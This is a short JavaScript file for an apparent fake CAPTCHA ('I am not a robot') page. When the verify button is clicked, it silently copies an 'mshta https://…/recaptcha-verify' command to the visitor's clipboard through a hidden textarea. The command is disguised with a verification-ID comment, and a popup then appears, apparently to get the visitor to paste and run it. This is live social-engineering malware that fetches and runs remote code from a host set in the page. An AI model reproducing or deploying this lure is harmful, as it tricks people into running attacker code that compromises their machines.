function put(t) {
  var box = document.createElement("textarea");
  box.value = t;
  box.style.position = "absolute";
  box.style.left = "-9999px";
  document.body.appendChild(box);
  box.select();
  document.execCommand("copy");
  document.body.removeChild(box);
}
function number() {
  return Math.floor(Math.random() * 9000) + 1000;
}
function prepare(cmd, id) {
  var tail = " # ✅ ''I am not a robot - verification ID: " + id + "''";
  put(cmd + tail);
}
var src = document.querySelector("base").dataset.h;
document.getElementById("check").addEventListener("click", function () {
  this.style.visibility = "hidden";
  document.getElementById("spin").style.display = "block";
  setTimeout(function () {
    var id = number();
    prepare("mshta https://" + src + "/recaptcha-verify", id);
    document.getElementById("vid").textContent = id;
    document.getElementById("popup").classList.add("show");
  }, 1400);
});
